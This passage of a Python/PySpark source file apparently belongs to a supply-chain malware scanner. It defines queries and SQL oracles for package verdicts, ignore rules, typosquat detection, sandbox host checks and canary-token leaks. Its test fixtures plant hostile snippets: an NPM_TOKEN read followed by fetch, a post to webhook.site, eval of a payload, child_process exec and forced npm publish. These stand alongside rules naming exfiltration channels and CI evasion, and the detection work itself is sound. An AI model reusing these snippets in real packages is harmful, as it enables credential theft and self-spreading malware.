"""Registered queries over the engine's own operators, each with the same result as SQL where SQL can express it.

The driver's tables hold prose and orders, not packages, so queries derive packages, signals, rules, traffic and traces
from their columns.  A derivation is written once, in SQL that both engines read, and stands in the oracle as it is.
"""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from assayer.functions import fixed, text
from assayer.operators import detonation, js_code, lines, policy, python_code, typosquat, verdict
from assayer.plans import reports
from assayer.sources import manifests

TABLES = ("region", "nation", "customer", "supplier", "part", "orders", "lineitem", "events", "documents", "embeddings", "pages", "benchmark", "labels", "conversations")
QUERIES: dict = {}
ORACLE: dict[str, str] = {}


def derive(spark: SparkSession, sf_dir: str, sql: str) -> DataFrame:
    """Run portable SQL over the tables it names."""
    for t in TABLES:
        if t in sql:
            spark.read.parquet(f"{sf_dir}/{t}.parquet").createOrReplaceTempView(t)
    return spark.sql(sql)


def query(name: str, oracle: str | None = None):
    def add(f):
        QUERIES[name] = f
        if oracle:
            ORACLE[name] = oracle
        return f
    return add


# ---- derivations, in SQL that both engines read ----

SIGNALS = """SELECT 'npm' AS ecosystem, 'pkg' || CAST(l_partkey AS STRING) AS package, '1.0.' || CAST(l_suppkey % 7 AS STRING) AS version,
  CAST(l_orderkey * 10 + l_linenumber AS BIGINT) AS ord,
  CASE l_returnflag WHEN 'R' THEN 'detonation' WHEN 'A' THEN 'analyst' ELSE 'recon' END AS source,
  'rule-' || CAST(l_linenumber AS STRING) AS category,
  CASE WHEN l_quantity >= 50 AND l_discount >= 0.09 THEN 'critical' WHEN l_quantity >= 40 THEN 'high' WHEN l_quantity >= 15 THEN 'medium' ELSE 'low' END AS severity,
  CASE WHEN l_quantity >= 50 AND l_discount >= 0.09 THEN 3 WHEN l_quantity >= 40 THEN 2 WHEN l_quantity >= 15 THEN 1 ELSE 0 END AS sev_rank
  FROM lineitem"""
DOSSIERS = """SELECT 'npm' AS ecosystem, 'pkg' || CAST(p_partkey AS STRING) AS package, '1.0.' || CAST(v AS STRING) AS version,
  CASE WHEN p_partkey % 41 = 3 THEN 'fetch failed' END AS scan_error, p_partkey % 29 = 5 AS ignored
  FROM part CROSS JOIN (SELECT 0 AS v UNION ALL SELECT 1 UNION ALL SELECT 2 UNION ALL SELECT 3 UNION ALL SELECT 4 UNION ALL SELECT 5 UNION ALL SELECT 6) AS versions"""
VERDICTS = f"""WITH s AS ({SIGNALS}), d AS ({DOSSIERS}), a AS (SELECT ecosystem, package, version,
  bool_or(severity = 'critical') AS critical, bool_or(severity IN ('high', 'critical') AND source = 'recon') AS static, bool_or(source = 'detonation') AS run,
  count(*) FILTER (WHERE severity IN ('high', 'critical') AND source = 'analyst') AS analysts, bool_or(severity <> 'low') AS any_real, count(*) AS n FROM s GROUP BY 1, 2, 3)
  SELECT ecosystem, package, version, scan_error, ignored, CASE WHEN scan_error IS NOT NULL THEN 'unscanned' WHEN critical OR (static AND run) OR analysts >= 2 THEN 'malicious' WHEN any_real THEN 'suspicious' ELSE 'clean' END AS verdict, coalesce(n, 0) AS n_signals
  FROM d LEFT JOIN a USING (ecosystem, package, version)"""
LINES = "SELECT doc_id, unnest(string_split(text, chr(10))) AS line, generate_subscripts(string_split(text, chr(10)), 1) AS line_no FROM documents"


def signals(spark, sf):
    return derive(spark, sf, SIGNALS)


def judged(spark, sf):
    return verdict.verdicts(derive(spark, sf, DOSSIERS), signals(spark, sf))


def documents_as_files(spark, sf):
    docs = spark.read.parquet(f"{sf}/documents.parquet")
    return docs.select(F.lit("npm").alias("ecosystem"), F.col("source").alias("package"), F.lit("1").alias("version"), F.concat(F.lit("d"), F.col("doc_id").cast("string")).alias("path"), "text", "doc_id")


def document_lines(spark, sf):
    docs = spark.read.parquet(f"{sf}/documents.parquet")
    return docs.select("doc_id", F.posexplode(F.split("text", "\n", -1)).alias("p", "line")).select("doc_id", "line", (F.col("p") + 1).cast("long").alias("line_no"))


# ---- verdicts, gates, decisions ----

@query("verdict_by_package", VERDICTS)
def _(spark, sf):
    return judged(spark, sf)


@query("verdict_counts", f"SELECT verdict, count(*) AS n FROM ({VERDICTS}) GROUP BY 1")
def _(spark, sf):
    return verdict.verdict_counts(judged(spark, sf))


@query("gate_exit_code", f"""WITH j AS (SELECT * FROM ({VERDICTS}) WHERE NOT ignored) SELECT CASE WHEN bool_or(verdict = 'malicious') THEN 'malicious' WHEN bool_or(verdict = 'suspicious') THEN 'suspicious' WHEN bool_or(verdict = 'unscanned') THEN 'unscanned' ELSE 'clean' END AS overall,
  count(*) AS n_active, count(*) FILTER (WHERE verdict = 'unscanned') AS n_unscanned, CASE WHEN bool_or(verdict = 'malicious') THEN 1 WHEN bool_or(verdict = 'unscanned') THEN 2 ELSE 0 END AS exit_code FROM j""")
def _(spark, sf):
    return verdict.gate(judged(spark, sf))


REPUTATION = """SELECT 'npm' AS ecosystem, 'pkg' || CAST(c_custkey AS STRING) AS package, '1.0.' || CAST(c_custkey % 7 AS STRING) AS version,
  CASE WHEN c_custkey % 13 = 0 THEN NULL ELSE CAST(c_custkey % 90 AS INT) END AS age_days, CASE WHEN c_custkey % 17 = 0 THEN NULL ELSE CAST(c_custkey * 37 AS BIGINT) END AS downloads_last_month FROM customer"""


@query("detonation_decision", f"""WITH r AS ({REPUTATION}), s AS (SELECT ecosystem, package, version, count(*) AS n FROM ({SIGNALS}) WHERE severity IN ('high', 'critical') AND source = 'recon' GROUP BY 1, 2, 3)
  SELECT ecosystem, package, version, coalesce(n, 0) > 0 OR age_days IS NULL OR downloads_last_month IS NULL OR age_days < 30 OR downloads_last_month < 1000 AS should_detonate,
  CASE WHEN coalesce(n, 0) > 0 THEN n::VARCHAR || ' high or critical static signal(s)' WHEN age_days IS NULL OR downloads_last_month IS NULL THEN 'reputation is unknown' WHEN age_days < 30 THEN 'published ' || age_days::VARCHAR || ' day(s) ago, below 30'
  WHEN downloads_last_month < 1000 THEN downloads_last_month::VARCHAR || ' downloads a month, below 1000' ELSE 'established: ' || age_days::VARCHAR || ' days old, ' || downloads_last_month::VARCHAR || ' downloads a month' END AS reason
  FROM r LEFT JOIN s USING (ecosystem, package, version)""")
def _(spark, sf):
    return verdict.detonation_decisions(derive(spark, sf, REPUTATION), signals(spark, sf))


@query("sarif_worst_severity", f"""SELECT category, CASE max(sev_rank) WHEN 3 THEN 'critical' WHEN 2 THEN 'high' WHEN 1 THEN 'medium' ELSE 'low' END AS severity,
  CASE max(sev_rank) WHEN 3 THEN 'error' WHEN 2 THEN 'error' WHEN 1 THEN 'warning' ELSE 'note' END AS level, CASE max(sev_rank) WHEN 3 THEN '9.5' WHEN 2 THEN '8.0' WHEN 1 THEN '5.0' ELSE '2.0' END AS security_severity FROM ({SIGNALS}) GROUP BY 1""")
def _(spark, sf):
    return verdict.worst_by_category(signals(spark, sf))


@query("signal_ids", f"SELECT package, version, ord, substr(sha1(source || ':' || category || ':' || package || '@' || version), 1, 16) AS id FROM ({SIGNALS})")
def _(spark, sf):
    return signals(spark, sf).select("package", "version", "ord", text.signal_id(F.col("source"), F.col("category"), F.concat("package", F.lit("@"), "version")).alias("id"))


@query("observation_guard", f"SELECT ecosystem, package, version, CASE WHEN scan_error IS NULL THEN 'nothing was run and static rules were skipped' ELSE scan_error END AS scan_error FROM ({DOSSIERS}) WHERE ignored")
def _(spark, sf):
    d = derive(spark, sf, DOSSIERS).where("ignored").withColumn("detonated", F.lit(False))
    return verdict.require_observation(d, "detonate-only").select("ecosystem", "package", "version", "scan_error")


EVENT_SIGNALS = "SELECT 'run' AS run_id, CAST(user_id % 500 AS STRING) || '-' || event_type AS id, CAST(event_id AS BIGINT) AS ord, event_type AS category, CAST(floor(value) AS BIGINT) AS weight FROM events"


@query("dedupe_signals_last_wins", f"SELECT run_id, id, min(ord) AS ord, arg_max(category, ord) AS category, arg_max(weight, ord) AS weight FROM ({EVENT_SIGNALS}) GROUP BY 1, 2")
def _(spark, sf):
    return verdict.dedupe_last_wins(derive(spark, sf, EVENT_SIGNALS), ["run_id"])


@query("budget_first_n", "SELECT source, doc_id, n_chars FROM (SELECT source, doc_id, n_chars, row_number() OVER (PARTITION BY source ORDER BY doc_id) AS r FROM documents) WHERE r <= 20")
def _(spark, sf):
    return verdict.first_n(spark.read.parquet(f"{sf}/documents.parquet").select("source", "doc_id", "n_chars"), ["source"], ["doc_id"], fixed.ANALYST_ASKS)


ASKED = f"SELECT ecosystem, package, version, 'f' || CAST(ord AS STRING) AS file, CAST(1 AS INT) AS line, ord, CASE WHEN ord % 2 = 0 THEN 'skeptical' ELSE 'suspicious' END AS persona, 'blob' AS excerpt FROM ({SIGNALS}) AS s WHERE source = 'analyst'"
ANSWERS = f"SELECT ecosystem, package, version, file, line, persona, ord % 5 <> 0 AS ok, ord % 3 = 0 AS malicious, CAST((ord % 10) / 10.0 AS DOUBLE) AS confidence, 'r' || CAST(ord % 4 AS STRING) AS rationale FROM ({ASKED}) AS a"


@query("analyst_signals", f"""WITH asked AS (SELECT *, row_number() OVER (PARTITION BY ecosystem, package, version ORDER BY ord, persona) AS r FROM ({ASKED})), answers AS ({ANSWERS})
  SELECT package, version, substr(sha1('analyst:obfuscated-intent:' || file || ':1:' || persona), 1, 16) AS id, CASE WHEN confidence >= 0.7 THEN 'high' ELSE 'medium' END AS severity, '[' || persona || '] ' || rationale AS description
  FROM asked JOIN answers USING (ecosystem, package, version, file, line, persona) WHERE r <= 20 AND ok AND malicious""")
def _(spark, sf):
    return verdict.analyst_signals(derive(spark, sf, ASKED), derive(spark, sf, ANSWERS)).select("package", "version", "id", "severity", "description")


PRESENCE = "SELECT CASE WHEN s_suppkey % 3 = 0 THEN 'pypi' ELSE 'npm' END AS ecosystem, 'name' || CAST(s_suppkey AS STRING) AS package, '1.0.0' AS version, CASE WHEN s_suppkey % 7 = 0 THEN NULL ELSE s_suppkey % 4 <> 0 END AS name_exists, CASE WHEN s_suppkey % 7 = 0 THEN NULL ELSE s_suppkey % 5 = 0 END AS version_exists, s_suppkey % 11 = 0 AS security_holding FROM supplier WHERE s_suppkey % 13 <> 0"
MISSING = "SELECT CASE WHEN s_suppkey % 3 = 0 THEN 'pypi' ELSE 'npm' END AS ecosystem, 'name' || CAST(s_suppkey AS STRING) AS package, '1.0.0' AS version FROM supplier"


@query("missing_releases", f"""SELECT ecosystem, package, version, CASE WHEN take THEN NULL WHEN name_exists = false THEN 'no package is named ' || package WHEN name_exists THEN 'version ' || version || ' is not on the registry' ELSE 'the release could not be fetched' END AS scan_error
  FROM (SELECT m.*, p.name_exists, m.ecosystem = 'npm' AND coalesce(p.security_holding, false) AND NOT coalesce(p.version_exists, false) AS take FROM ({MISSING}) m LEFT JOIN ({PRESENCE}) p USING (ecosystem, package, version))""")
def _(spark, sf):
    return verdict.missing_releases(derive(spark, sf, MISSING), derive(spark, sf, PRESENCE))[0]


@query("missing_release_signals", f"""SELECT ecosystem, package, CASE WHEN take THEN 'npm-security-takedown' ELSE 'unclaimed-package-name' END AS category, CASE WHEN take THEN 'critical' ELSE 'high' END AS severity
  FROM (SELECT m.*, p.name_exists, m.ecosystem = 'npm' AND coalesce(p.security_holding, false) AND NOT coalesce(p.version_exists, false) AS take FROM ({MISSING}) m LEFT JOIN ({PRESENCE}) p USING (ecosystem, package, version)) WHERE take OR name_exists = false""")
def _(spark, sf):
    return verdict.missing_releases(derive(spark, sf, MISSING), derive(spark, sf, PRESENCE))[1].select("ecosystem", "package", "category", "severity")


# ---- policy and cache ----

RULES = "SELECT CAST(s_suppkey AS INT) AS ord, 'pkg' || CAST(s_suppkey % 60 AS STRING) AS package, CASE WHEN s_suppkey % 3 = 0 THEN '1.0.' || CAST(s_suppkey % 7 AS STRING) END AS version, 'r' || CAST(s_suppkey AS STRING) AS reason, CASE WHEN s_suppkey % 5 = 0 THEN DATE '1998-01-01' WHEN s_suppkey % 5 = 1 THEN DATE '1999-06-30' END AS expires, CASE WHEN s_suppkey % 4 = 0 THEN 'pypi' WHEN s_suppkey % 4 = 1 THEN 'npm' END AS ecosystem FROM supplier"
TODAY = "DATE '1998-01-02'"
FIRST = f"""SELECT ecosystem, package, version, ord, reason FROM (SELECT d.ecosystem, d.package, d.version, r.ord, r.reason, row_number() OVER (PARTITION BY d.ecosystem, d.package, d.version ORDER BY r.ord) AS n
  FROM ({DOSSIERS}) d JOIN ({RULES}) r ON d.package = r.package AND (r.version IS NULL OR r.version = d.version) AND (r.ecosystem IS NULL OR r.ecosystem = d.ecosystem) WHERE r.expires IS NULL OR r.expires >= {TODAY}) WHERE n = 1"""


@query("ignore_first_match", FIRST)
def _(spark, sf):
    return policy.first_matches(derive(spark, sf, DOSSIERS), policy.active_rules(derive(spark, sf, RULES), F.expr(TODAY)))


@query("ignore_unused", f"SELECT ord, package, reason FROM ({RULES}) WHERE (expires IS NULL OR expires >= {TODAY}) AND ord NOT IN (SELECT ord FROM ({FIRST}))")
def _(spark, sf):
    return policy.unused_rules(derive(spark, sf, DOSSIERS), derive(spark, sf, RULES), F.expr(TODAY)).select("ord", "package", "reason")


@query("ignore_expired", f"SELECT ord, package, reason FROM ({RULES}) WHERE expires < {TODAY}")
def _(spark, sf):
    return policy.expired_rules(derive(spark, sf, RULES), F.expr(TODAY)).select("ord", "package", "reason")


@query("ignored_dossiers", f"SELECT d.ecosystem, d.package, d.version, f.reason AS ignore_reason, f.reason IS NOT NULL AS ignored FROM ({DOSSIERS}) d LEFT JOIN ({FIRST}) f USING (ecosystem, package, version)")
def _(spark, sf):
    return policy.apply_rules(derive(spark, sf, DOSSIERS), derive(spark, sf, RULES), F.expr(TODAY)).select("ecosystem", "package", "version", "ignore_reason", "ignored")


CACHE = "SELECT CASE WHEN o_orderkey % 3 = 0 THEN 'other' ELSE 'rules' END AS scope, 'npm' AS ecosystem, 'pkg' || CAST(o_custkey AS STRING) AS package, '1.0.' || CAST(o_custkey % 7 AS STRING) AS version, CAST(900000000 + o_orderkey * 53 % 1200000 AS DOUBLE) AS stored_at, o_orderpriority AS dossier FROM orders"
NOW = 901200000.0
FRESH = f"SELECT ecosystem, package, version, max(stored_at) AS stored_at, arg_max(dossier, stored_at) AS dossier FROM ({CACHE}) WHERE scope = 'rules' AND stored_at >= {NOW} - 7 * 86400 AND stored_at <= {NOW} GROUP BY 1, 2, 3"


@query("cache_fresh_latest", f"SELECT ecosystem, package, version, stored_at FROM ({FRESH})")
def _(spark, sf):
    return policy.latest_fresh(derive(spark, sf, CACHE), "rules", F.lit(NOW)).select("ecosystem", "package", "version", "stored_at")


WANTED = "SELECT 'npm' AS ecosystem, 'pkg' || CAST(c_custkey AS STRING) AS package, '1.0.' || CAST(c_custkey % 7 AS STRING) AS version FROM customer"


@query("delta_scan", f"SELECT ecosystem, package, version FROM ({WANTED}) w WHERE NOT EXISTS (SELECT 1 FROM ({FRESH}) f WHERE f.package = w.package AND f.version = w.version)")
def _(spark, sf):
    return policy.delta(derive(spark, sf, WANTED), policy.latest_fresh(derive(spark, sf, CACHE), "rules", F.lit(NOW)))


@query("cache_put", f"SELECT scope, ecosystem, package, version, max(stored_at) AS stored_at FROM ({CACHE}) WHERE scope IS NOT NULL GROUP BY 1, 2, 3, 4")
def _(spark, sf):
    cache = derive(spark, sf, CACHE)
    older, newer = cache.where("stored_at < 900600000"), cache.where("stored_at >= 900600000").withColumn("scan_error", F.lit(None).cast("string"))
    return policy.put(older, newer).select("scope", "ecosystem", "package", "version", "stored_at")


# ---- line rules over documents ----

_FACTS = {"ip": r"[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}"}


CODE = """SELECT doc_id, CASE doc_id % 12 WHEN 0 THEN 'const t = process.env.NPM_TOKEN; fetch(u)' WHEN 1 THEN 'eval(payload)' WHEN 2 THEN 'eval("1+1")' WHEN 3 THEN 'exec(cmd)' WHEN 4 THEN 're.exec(text)'
  WHEN 5 THEN 'post(''https://webhook.site/x'')' WHEN 6 THEN 'Object.keys(process.env)' WHEN 7 THEN 'if (process.env.CI) run()' || chr(10) || 'fetch(u)' WHEN 8 THEN 'npm publish --force' WHEN 9 THEN 'const cp = require("child_process")' || chr(10) || 'cp.exec(x)'
  WHEN 10 THEN 'let s = "' || repeat('aZ3kQ9xV7bN1mP5tR8wL2yC6dF4gH0sJ', 3) || '"' ELSE 'ordinary text' END AS text FROM documents"""


@query("javascript_rules", """SELECT doc_id, category, severity FROM (SELECT doc_id, unnest(CASE doc_id % 12 WHEN 0 THEN ['named-credential-env-read:high', 'sensitive-data-network-cooccurrence:high'] WHEN 1 THEN ['eval-computed-arg:high'] WHEN 3 THEN ['command-exec-computed-arg:high']
  WHEN 5 THEN ['known-exfil-channel:high'] WHEN 6 THEN ['bulk-env-enumeration:high'] WHEN 7 THEN ['ci-sandbox-evasion:high', 'sensitive-data-network-cooccurrence:high'] WHEN 8 THEN ['npm-self-publish-behavior:high'] WHEN 9 THEN ['command-exec-computed-arg:high'] WHEN 10 THEN ['packed-string-blob:medium'] ELSE [] END) AS c,
  split_part(c, ':', 1) AS category, split_part(c, ':', 2) AS severity FROM documents)""")
def _(spark, sf):
    code = derive(spark, sf, CODE).select(F.lit("npm").alias("ecosystem"), F.col("doc_id").cast("string").alias("package"), F.lit("1").alias("version"), F.lit("index.js").alias("path"), "text")
    return lines.scan_javascript(code).select(F.col("package").cast("long").alias("doc_id"), "category", "severity")


@query("cooccurrence_files", """SELECT doc_id, category FROM (SELECT doc_id, unnest(CASE doc_id % 12 WHEN 0 THEN ['sensitive-data-network-cooccurrence'] WHEN 7 THEN ['ci-sandbox-evasion', 'sensitive-data-network-cooccurrence'] ELSE [] END) AS category FROM documents)""")
def _(spark, sf):
    code = derive(spark, sf, CODE).select(F.lit("npm").alias("ecosystem"), F.col("doc_id").cast("string").alias("package"), F.lit("1").alias("version"), F.lit("index.js").alias("path"), "text")
    return lines.cooccurrence(lines.hits(code)).select(F.col("package").cast("long").alias("doc_id"), "category")


PLANTED = """SELECT doc_id, CASE WHEN doc_id % 9 = 0 THEN concat(coalesce(text, ''), chr(10), 'eval(payload)') WHEN doc_id % 9 = 4 THEN concat('post("https://webhook.site/x")', chr(10), coalesce(text, '')) WHEN doc_id % 9 = 7 THEN concat(coalesce(text, ''), chr(10), 'npm publish now') ELSE coalesce(text, '') END AS text FROM documents"""


@query("catalog_over_documents", """SELECT doc_id, category, CASE WHEN category = 'known-exfil-channel' THEN 1 ELSE 1 + length(text) - length(replace(text, chr(10), '')) + 1 END AS line FROM (SELECT doc_id, coalesce(text, '') AS text, CASE doc_id % 9 WHEN 0 THEN 'eval-computed-arg' WHEN 4 THEN 'known-exfil-channel' WHEN 7 THEN 'npm-self-publish-behavior' END AS category FROM documents) WHERE category IS NOT NULL""")
def _(spark, sf):
    """The whole catalogue over whole texts, a rule of it planted in a third of them."""
    files = derive(spark, sf, PLANTED).select(F.lit("npm").alias("ecosystem"), F.col("doc_id").cast("string").alias("package"), F.lit("1").alias("version"), F.lit("a.js").alias("path"), "text")
    return lines.line_signals(lines.hits(files)).select(F.col("package").cast("long").alias("doc_id"), "category", F.col("evidence")[0]["line"].alias("line"))


@query("entropy_tokens", "SELECT doc_id, token, round(list_entropy(string_split(token, '')), 9) AS bits FROM (SELECT doc_id, unnest(regexp_extract_all(text, '[0-9a-f]{24,}')) AS token FROM documents)")
def _(spark, sf):
    docs = spark.read.parquet(f"{sf}/documents.parquet")
    return docs.select("doc_id", F.explode(F.regexp_extract_all("text", F.lit("[0-9a-f]{24,}"), 0)).alias("token")).select("doc_id", "token", F.round(text.entropy("token"), 9).alias("bits"))


@query("packed_blob_candidates", """SELECT doc_id, blob, round(list_entropy(string_split(blob, '')), 9) AS bits FROM (SELECT doc_id, unnest(regexp_extract_all(text, '["'']([A-Za-z0-9+/=_-]{24,})["'']', 1)) AS blob FROM documents)
  WHERE list_entropy(string_split(blob, '')) >= 3.5""")
def _(spark, sf):
    docs = spark.read.parquet(f"{sf}/documents.parquet")
    found = docs.select("doc_id", F.explode(F.regexp_extract_all("text", F.lit(r"""["']([A-Za-z0-9+/=_-]{24,})["']"""), 1)).alias("blob"))
    return found.where(text.is_packed(F.col("blob"), 3.5)).select("doc_id", "blob", F.round(text.entropy("blob"), 9).alias("bits"))


@query("code_context", f"""WITH l AS ({LINES}), e AS (SELECT doc_id, line_no AS at FROM l WHERE regexp_matches(line, '{_FACTS['ip']}'))
  SELECT e.doc_id, e.at AS line, string_agg(lpad(l.line_no::VARCHAR, 5, ' ') || CASE WHEN l.line_no = e.at THEN '>' ELSE ' ' END || '| ' || substr(l.line, 1, 400), chr(10) ORDER BY l.line_no) AS context
  FROM e JOIN l ON l.doc_id = e.doc_id AND l.line_no BETWEEN e.at - 6 AND e.at + 6 AND NOT (l.line = '' AND l.line_no = (SELECT max(line_no) FROM l x WHERE x.doc_id = l.doc_id)) GROUP BY 1, 2""")
def _(spark, sf):
    files = documents_as_files(spark, sf).withColumn("package", F.col("path"))
    ev = document_lines(spark, sf).where(F.col("line").rlike(_FACTS["ip"])).select(F.lit("npm").alias("ecosystem"), F.concat(F.lit("d"), F.col("doc_id").cast("string")).alias("package"), F.lit("1").alias("version"), F.concat(F.lit("d"), F.col("doc_id").cast("string")).alias("file"), F.col("line_no").cast("int").alias("line"), F.col("line_no").alias("ord"))
    plain = lines.code_context(ev, files.drop("doc_id").withColumn("text", F.regexp_replace("text", r"[\r\x0b\x0c\x1c-\x1e\x85  ]", " ")))
    return plain.select(F.substring("file", 2, 30).cast("long").alias("doc_id"), F.col("line").cast("long").alias("line"), "context")


# ---- names and versions ----

NAMES = """SELECT p_partkey, CASE CAST(p_partkey % 6 AS INT) WHEN 0 THEN base WHEN 1 THEN base || 'x' WHEN 2 THEN base || '.js' WHEN 3 THEN replace(base, '-', '_') WHEN 4 THEN substr(base, 2, 100) ELSE base || 'zzzz' END AS name
  FROM (SELECT p_partkey, lower(replace(p_name, ' ', '-')) AS base FROM part) AS b"""
POPULAR = "SELECT popular, popular AS ord FROM (SELECT DISTINCT lower(replace(p_name, ' ', '-')) AS popular FROM part) AS x"


@query("typosquat_candidates", f"""WITH p AS ({POPULAR}), n AS (SELECT DISTINCT name FROM ({NAMES}) WHERE name NOT IN (SELECT popular FROM p))
  SELECT name, arg_min(popular, ord) AS target FROM n JOIN p ON (length(name) BETWEEN length(popular) - 2 AND length(popular) + 2 AND damerau_levenshtein(name, popular) <= CASE WHEN length(popular) <= 8 THEN 1 ELSE 2 END)
  OR (regexp_replace(name, '[._-]?js$', '') <> name AND regexp_replace(name, '[._-]?js$', '') = popular) OR regexp_replace(name, '[._-]', '', 'g') = regexp_replace(popular, '[._-]', '', 'g') GROUP BY 1""")
def _(spark, sf):
    return typosquat.targets(derive(spark, sf, NAMES), derive(spark, sf, POPULAR))


@query("typosquat_npm", """SELECT name, target FROM (VALUES ('lodahs', 'lodash'), ('crossenv', 'cross-env'), ('cross-env.js', 'cross-env'), ('expres', 'express'), ('reqeust', 'request')) AS t(name, target)""")
def _(spark, sf):
    probes = spark.createDataFrame([(n,) for n in "lodahs crossenv cross-env.js expres reqeust lodash vuex preact yup pug left-pad".split()], "name string")
    return typosquat.targets(probes, typosquat.popular_table(spark, "npm"), fixed.NEAR_NPM)


@query("name_normalize", "SELECT p_partkey, lower(regexp_replace(replace(p_name, ' ', '-_.'), '[-_.]+', '-', 'g')) AS name FROM part")
def _(spark, sf):
    part = spark.read.parquet(f"{sf}/part.parquet")
    return part.select("p_partkey", text.normalize_name(F.replace("p_name", F.lit(" "), F.lit("-_."))).alias("name"))


VERSIONS = "SELECT p_partkey, CASE WHEN p_partkey % 2 = 0 THEN 'npm' ELSE 'pypi' END AS ecosystem, CASE CAST(p_partkey % 8 AS INT) WHEN 0 THEN '1.2.' || CAST(p_size AS STRING) WHEN 1 THEN CAST(p_size AS STRING) || '.0rc1' WHEN 2 THEN '^1.0.' || CAST(p_size AS STRING) WHEN 3 THEN '2024.' || CAST(p_size AS STRING) WHEN 4 THEN '1.0.0-beta.1+x' WHEN 5 THEN '>=1.0' WHEN 6 THEN 'latest' ELSE '1.0.post2.dev3' END AS version FROM part"


@query("version_exactness", f"SELECT p_partkey, ecosystem, version, CASE WHEN ecosystem = 'pypi' THEN regexp_matches(version, '{fixed.EXACT_PYPI}') ELSE regexp_matches(version, '{fixed.EXACT_NPM}') END AS exact FROM ({VERSIONS})")
def _(spark, sf):
    return derive(spark, sf, VERSIONS).withColumn("exact", text.is_exact("version", "ecosystem"))


@query("security_holding_versions", "SELECT p_partkey, '0.0.' || p_size::VARCHAR || CASE WHEN p_partkey % 3 = 0 THEN '-security' ELSE '' END AS version, p_partkey % 3 = 0 AS holding FROM part")
def _(spark, sf):
    part = spark.read.parquet(f"{sf}/part.parquet").select("p_partkey", F.concat(F.lit("0.0."), F.col("p_size").cast("string"), F.when(F.col("p_partkey") % 3 == 0, "-security").otherwise("")).alias("version"))
    return part.withColumn("holding", F.col("version").rlike(fixed.SECURITY_HOLDING))


@query("spec_parse", "SELECT c_custkey, CASE WHEN c_custkey % 3 = 0 THEN 'pypi' ELSE 'npm' END AS ecosystem, CASE c_custkey % 3 WHEN 0 THEN 'p' || c_custkey::VARCHAR WHEN 1 THEN '@s/p' || c_custkey::VARCHAR ELSE 'q' || c_custkey::VARCHAR END AS name, '1.' || (c_custkey % 9)::VARCHAR AS version FROM customer")
def _(spark, sf):
    c = spark.read.parquet(f"{sf}/customer.parquet")
    k, v = F.col("c_custkey").cast("string"), F.concat(F.lit("1."), (F.col("c_custkey") % 9).cast("string"))
    spec = F.when(F.col("c_custkey") % 3 == 0, F.concat(F.lit("pypi:p"), k, F.lit("=="), v)).when(F.col("c_custkey") % 3 == 1, F.concat(F.lit("npm:@s/p"), k, F.lit("@"), v)).otherwise(F.concat(F.lit("q"), k, F.lit("@"), v))
    return c.select("c_custkey", text.parse_spec(spec).alias("s")).select("c_custkey", "s.*")


# ---- sandbox evidence ----

HOSTS = "SELECT page_id, regexp_extract(url, '^[a-z]+://([^/?#]+)', 1) AS host FROM pages"


@query("unexpected_hosts", f"SELECT host, count(*) AS n FROM ({HOSTS}) WHERE host NOT IN ({', '.join(repr(h) for h in fixed.ALLOWED_HOSTS)}) GROUP BY 1")
def _(spark, sf):
    from assayer.streaming.capture import unexpected_hosts

    return unexpected_hosts(derive(spark, sf, HOSTS).withColumn("kind", F.lit("connect"))).groupBy("host").agg(F.count("*").alias("n"))


ADDRESSES = "SELECT o_orderkey, CAST(o_orderkey * 7919 % 256 AS STRING) || '.' || CAST(o_orderkey * 104729 % 256 AS STRING) || '.' || CAST(o_orderkey % 256 AS STRING) || '.1' AS address FROM orders"


@query("internal_addresses", f"""SELECT o_orderkey, address, NOT (a IN (0, 10, 127) OR (a = 100 AND b BETWEEN 64 AND 127) OR (a = 169 AND b = 254) OR (a = 172 AND b BETWEEN 16 AND 31) OR (a = 192 AND b = 0 AND c IN (0, 2)) OR (a = 192 AND b = 168)
  OR (a = 198 AND b IN (18, 19)) OR (a = 198 AND b = 51 AND c = 100) OR (a = 203 AND b = 0 AND c = 113) OR a >= 224) AS public
  FROM (SELECT *, split_part(address, '.', 1)::INT AS a, split_part(address, '.', 2)::INT AS b, split_part(address, '.', 3)::INT AS c FROM ({ADDRESSES}))""")
def _(spark, sf):
    return derive(spark, sf, ADDRESSES).withColumn("public", text.public_ipv4("address"))


@query("canary_leaks", """WITH c AS (SELECT DISTINCT regexp_extract(text, 'token = "([0-9a-f]{40})"', 1) AS value FROM documents WHERE regexp_matches(text, 'token = "[0-9a-f]{40}"')),
  h AS (SELECT doc_id, CASE doc_id % 3 WHEN 0 THEN text WHEN 1 THEN to_base64(encode(coalesce(nullif(regexp_extract(text, 'token = "([0-9a-f]{40})"', 1), ''), 'none'))) ELSE lower(hex(encode(coalesce(nullif(regexp_extract(text, 'token = "([0-9a-f]{40})"', 1), ''), 'none')))) END AS hay FROM documents)
  SELECT h.doc_id, c.value FROM h JOIN c ON contains(hay, value) OR contains(hay, to_base64(encode(value))) OR contains(hay, lower(hex(encode(value))))""")
def _(spark, sf):
    docs = spark.read.parquet(f"{sf}/documents.parquet")
    token = F.regexp_extract("text", 'token = "([0-9a-f]{40})"', 1)
    raw = F.encode(F.coalesce(F.nullif(token, F.lit("")), F.lit("none")), "UTF-8")
    sent = docs.select("doc_id", F.when(F.col("doc_id") % 3 == 0, F.col("text")).when(F.col("doc_id") % 3 == 1, text.unbroken_base64(raw)).otherwise(F.lower(F.hex(raw))).alias("url"))
    capture = sent.select(F.lit("run").alias("run_id"), F.lit("p").alias("package"), "doc_id", F.lit("http").alias("kind"), "url", F.lit(None).cast("map<string,string>").alias("headers"), F.lit(None).cast("binary").alias("body"))
    planted = docs.where(token != "").select(F.lit("run").alias("run_id"), token.alias("name"), token.alias("value")).distinct()
    return detonation.leaks(capture, planted).select("doc_id", F.col("name").alias("value"))


CAPTURE = """SELECT 'run' || CAST(user_id % 50 AS STRING) AS run_id, 'pkg' || CAST(user_id % 50 AS STRING) AS package, CAST(event_id AS BIGINT) AS seq, CASE CAST(event_id % 4 AS INT) WHEN 0 THEN 'connect' WHEN 1 THEN 'blocked' ELSE 'http' END AS kind, 'GET' AS method,
  'http://h' || CAST(user_id % 9 AS STRING) || '.test/' || event_type AS url, CASE WHEN event_id % 5 = 0 THEN 'github.com' ELSE 'h' || CAST(user_id % 9 AS STRING) || '.test' END AS host, CAST(443 AS INT) AS port, '10.0.0.1' AS address, CASE WHEN event_id % 3 = 0 THEN 'https' ELSE 'http' END AS scheme FROM events"""


@query("capture_signals", f"""WITH c AS ({CAPTURE}), s AS (SELECT run_id, category, severity, 'detonation:' || category || ':' || package || ':' || d AS k FROM (
